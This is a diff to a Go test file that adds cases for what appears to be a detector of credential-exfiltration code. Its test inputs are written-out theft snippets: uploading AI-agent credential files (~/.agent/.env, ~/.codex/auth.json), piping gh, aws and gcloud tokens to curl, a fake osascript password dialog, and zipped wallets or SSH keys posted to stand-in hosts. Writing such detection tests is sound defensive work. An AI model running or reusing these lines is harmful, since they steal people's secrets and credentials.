@@ -93,6 +93,26 @@ func TestFlows(t *testing.T) {
 		{"a.py", "p = os.path.join(home, '.aws', 'credentials')\nrequests.post(u, data=open(p))", Phrase},
 		{"a.py", "p = os.path.join(home, '.aws', 'credentials')\nprint(open(p).read())", none},
 
+		{"a.py", "requests.post(u, data=open(os.path.expanduser('~/.agent/.env')).read())", Phrase},
+		{"a.py", "p = os.path.join(home, '.agent', '.env')\nrequests.post(u, data=open(p).read())", Phrase},
+		{"a.py", "p = Path.home() / '.agent' / '.env'\nrequests.post(u, data=p.read_text())", Phrase},
+		{"a.sh", "curl -T - https://x.example < $HOME/.config/x/.env; curl -d @$HOME/.x/.env https://x.example", Phrase},
+		{"a.py", "p = root / '.agent' / '.env'\nrequests.post(u, data=p.read_text())", none},
+		{"a.sh", "curl -d @$HOME/.x/.env.example https://x.example", none},
+		{"a.py", "requests.post(u, data=open(home + '/.codex/auth.json').read())", Phrase},
+		{"a.sh", "gh auth token | curl -d @- https://x.example", Phrase},
+		{"a.sh", "aws configure get x.secret | base64 | curl -T - https://x.example", Phrase},
+		{"a.sh", "curl -d \"t=$(gh auth token)\" https://x.example", Phrase},
+		{"a.sh", "curl -d '{}' -H \"Authorization: Bearer $(gcloud auth print-access-token)\" https://x.example", none},
+		{"a.sh", "gh auth token | docker login ghcr.io --password-stdin", none},
+		{"a.sh", "osascript -e 'display dialog \"Password:\" with hidden answer' | curl -d @- https://x.example", Phrase},
+		{"a.sh", "P=$(osascript -e 'display dialog \"x\" with hidden answer')\ncurl -d \"$P\" https://x.example", Phrase},
+		{"a.py", "b = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nfor f in ['~/.electrum/wallets/x']:\n" +
+			"    z.write(f)\nurlopen(Request(u, data=b.getvalue()))", Phrase},
+		{"a.py", "with tarfile.open('/tmp/x.tgz', 'w:gz') as t:\n    t.add(home + '/.ssh/x')\n" +
+			"requests.post(u, data=open('/tmp/x.tgz'))", Phrase},
+		{"a.py", "z = zipfile.ZipFile('x.zip', 'w')\nz.write('a.txt')\nprint('~/.ssh/x')\nrequests.post(u, data=open('x.zip'))", none},
+
 		{"a.js", "const k = read('.ssh/id_rsa')\nconst r = https.request(o)\nr.write(k)", Phrase},
 		{"a.js", "const k = read('.ssh/id_rsa')\nout.write(k)", none},
 		{"a.sh", "cp ~/.netrc \"$D\"\ntar c \"$D\" | nc 203.0.113.1 9000", Phrase},
